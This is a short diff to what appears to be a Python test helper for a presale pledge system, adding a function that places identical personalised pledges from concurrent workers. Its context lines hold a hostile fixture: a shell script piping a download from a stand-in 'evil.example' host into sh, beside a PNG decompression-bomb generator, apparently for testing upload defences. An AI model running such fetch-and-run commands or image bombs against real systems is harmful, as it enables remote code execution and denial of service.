@@ -72,3 +72,13 @@ def png_bomb(width=30_000, height=30_000) -> bytes:
 
 
 SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
+
+
+def place_personalised(target, files_dir, slug, variant_id, key, units, start):
+    """Place the same personalised pledge as every other worker; return what it got back."""
+    from c2m_core import C2M
+
+    with C2M(target, plugins=[PlatePlugin()], load_entry_points=False, files_dir=files_dir) as app:
+        start.wait()
+        pledge = app.presale.place(slug, variant_id, "ann", len(units), key, personalisation=units)
+        return pledge.id, [dict(unit) for unit in pledge.personalisation]
